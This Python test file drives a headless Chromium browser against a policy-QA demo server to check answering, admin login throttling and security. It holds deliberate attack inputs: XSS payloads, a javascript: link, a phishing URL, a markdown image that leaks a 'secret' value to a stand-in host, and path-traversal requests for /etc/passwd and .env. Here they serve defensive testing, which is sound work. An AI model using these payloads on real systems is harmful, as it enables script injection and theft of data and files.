"""A real browser (Debian chromium driven by Playwright) against the demo server."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(
    not os.path.exists(CHROMIUM) and not os.environ.get("CI"),
    reason="Debian chromium is not installed (CI installs it)",
)


SECRET = "sk-test-never-served-7f3a"
ADMIN_PASSWORD = "admin-test-pass-3c1d"
AUDITOR_PASSWORD = "auditor-test-pass-9e2b"  # the throttling test locks this one
HOSTILE = (
    '第一条 网络安全须知：<img src=x onerror="window.__pqa_xss=1">本条说明申报安全。\n'
    "第二条 申报安全提示：详见 https://evil.example/phish 网址和 "
    "[点此申报](javascript:window.__pqa_xss=2)，<script>window.__pqa_xss=3</script>切勿点击。\n"
    "第三条 申报图片说明：![logo](http://127.0.0.1:9/leak.png?d=secret)\n"
)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


demo_server_root: list[str] = []  # the server's working directory, for the traversal tests


@pytest.fixture(scope="module")
def demo_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = tmp_path_factory.mktemp("server")
    demo_server_root[:] = [str(root)]
    port = free_port()
    from tests.eval.test_run import write_set

    (root / "evals").mkdir()
    write_set(root / "evals" / "tiny-set")
    env = {
        **os.environ,
        "POLICYQA_INDEX_DIR": str(root / "index"),
        "POLICYQA_CACHE_DIR": str(root / "cache"),
        "POLICYQA_EVAL_DATA_DIR": str(root / "evals"),
        "POLICYQA_ADMIN_USERS": f"admin:{ADMIN_PASSWORD},auditor:{AUDITOR_PASSWORD}",
    }
    exe = str(Path(sys.executable).with_name("policyqa"))
    # A hostile document beside the demo corpus, and secrets the server must never hand out.
    (root / "hostile").mkdir()
    (root / "hostile" / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    (root / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n", encoding="utf-8")
    subprocess.run([exe, "ingest", str(root / "hostile")], env=env, check=True, cwd=root)
    log = open(root / "server.log", "w")  # noqa: SIM115 - closed below
    proc = subprocess.Popen(
        [exe, "demo", "--port", str(port)], env=env, stdout=log, stderr=log, cwd=root
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(f"{url}/healthz", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                if proc.poll() is not None:
                    raise RuntimeError((root / "server.log").read_text()) from None
                time.sleep(0.5)
        else:
            raise RuntimeError("server did not start: " + (root / "server.log").read_text())
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()


@pytest.fixture
def page(demo_server: str) -> Iterator[object]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(demo_server, wait_until="load")
        page.locator("#question textarea").wait_for(timeout=60_000)
        try:
            yield page
        except BaseException:
            raise
        finally:
            browser.close()


def shoot_on_failure(page: object, name: str) -> str:
    folder = Path(tempfile.gettempdir()) / "policyqa-screenshots"
    folder.mkdir(exist_ok=True)
    path = folder / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)  # type: ignore[attr-defined]
    return str(path)


def test_chinese_question_shows_answer_and_cited_passage(page) -> None:  # type: ignore[no-untyped-def]
    try:
        assert "摘录式" in page.locator("#mode").inner_text()
        page.locator("#question textarea").fill("稳岗返还的比例是多少？")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        sources.locator(".pqa-source").first.wait_for(timeout=60_000)
        chat_text = page.locator("#chat").inner_text()
        assert "实际缴纳失业保险费的60%予以返还" in chat_text and "[1]" in chat_text
        panel = sources.inner_text()
        assert "第四条 稳岗返还" in panel and "示例市支持中小微企业纾困发展若干措施" in panel
        marked = sources.locator("mark").first.inner_text()
        assert "60%予以返还" in marked
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "chinese-question"))
        raise


def test_out_of_scope_question_is_refused_in_the_browser(page) -> None:  # type: ignore[no-untyped-def]
    try:
        page.locator("#question textarea").fill("What is the capital of France?")
        page.locator("#question textarea").press("Enter")
        page.get_by_text("don't cover this question").first.wait_for(timeout=60_000)
        assert "Possibly related" in page.locator("#sources").inner_text()
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "refusal"))
        raise


def test_evaluation_tab_runs_a_set_with_results(page, demo_server: str) -> None:  # type: ignore[no-untyped-def]
    try:
        assert page.get_by_role("tab", name="评测 / Evaluation").count() == 0  # not on the chat
        page.goto(f"{demo_server}/admin/", wait_until="load")
        page.get_by_label("username").fill("admin")
        page.get_by_label("password").fill(ADMIN_PASSWORD)
        page.get_by_role("button", name="Login").click()
        page.locator("#eval-run").click()
        page.locator("#eval-metrics").get_by_text("doc_hit@5").wait_for(timeout=120_000)
        questions = page.locator("#eval-questions").inner_text()
        assert "稳岗返还按什么比例返还？" in questions and "pass" in questions
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "evaluation-tab"))
        raise


def login(url: str, username: str, password: str) -> int:
    body = urllib.parse.urlencode({"username": username, "password": password}).encode()
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_admin_pages_need_a_login_and_failures_are_throttled(demo_server: str) -> None:
    with pytest.raises(urllib.error.HTTPError) as refused:  # nothing of the admin app before
        urllib.request.urlopen(f"{demo_server}/admin/config", timeout=10)  # a login
    assert refused.value.code in (401, 403)
    assert login(f"{demo_server}/admin/login", "guesser", "wrong") == 400
    assert login(f"{demo_server}/admin/login", "auditor", AUDITOR_PASSWORD) == 200
    for _ in range(5):
        assert login(f"{demo_server}/admin/login", "auditor", "wrong") == 400
    # Locked now: even the right password is refused until the lock expires.
    assert login(f"{demo_server}/admin/login", "auditor", AUDITOR_PASSWORD) == 400


def test_hostile_document_text_stays_inert(page) -> None:  # type: ignore[no-untyped-def]
    try:
        page.locator("#question textarea").fill("申报安全提示是什么？")
        page.locator("#ask").click()
        page.locator("#sources .pqa-source").first.wait_for(timeout=60_000)
        chat = page.locator("#chat")
        chat.get_by_text("evil.example/phish").first.wait_for(timeout=30_000)
        # Shown as text, exactly as written ...
        assert "[点此申报](javascript:window.__pqa_xss=2)" in chat.inner_text()
        assert "<script>window.__pqa_xss=3</script>" in chat.inner_text()
        page.locator("#question textarea").fill("申报图片说明是什么？")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        sources.get_by_text("leak.png").first.wait_for(timeout=30_000)
        assert "![logo](http://127.0.0.1:9/leak.png?d=secret)" in sources.inner_text()
        # ... but nothing in it ran, loaded or became a link.
        assert page.evaluate("window.__pqa_xss") is None
        for area in ("#chat", "#sources"):
            srcs = page.locator(f"{area} img").evaluate_all("els => els.map(e => e.src)")
            assert not [s for s in srcs if "127.0.0.1:9" in s or s.endswith("/x")], srcs
            hrefs = page.locator(f"{area} a").evaluate_all("els => els.map(e => e.href)")
            assert not [h for h in hrefs if "javascript:" in h or "evil.example" in h], hrefs
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "hostile-document"))
        raise


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=.env",
        "/gradio_api/file=../.env",
        "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file={root}/.env",
        "/gradio_api/file={root}/index/registry.sqlite",
        "/file=/etc/passwd",
        "/gradio_api/file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/../../../../etc/passwd",
        "/../.env",
    ],
)
def test_no_file_outside_the_app_is_served(demo_server: str, path: str) -> None:
    root = Path(demo_server_root[0]) if demo_server_root else Path("/nonexistent")
    url = demo_server + path.replace("{root}", str(root))
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            status, body = response.status, response.read()
    except urllib.error.HTTPError as exc:
        status, body = exc.code, exc.read()
    assert (
        SECRET.encode() not in body and b"root:x:0:0" not in body and b"SQLite format" not in body
    )
    assert status in (400, 403, 404, 405), (status, body[:200])
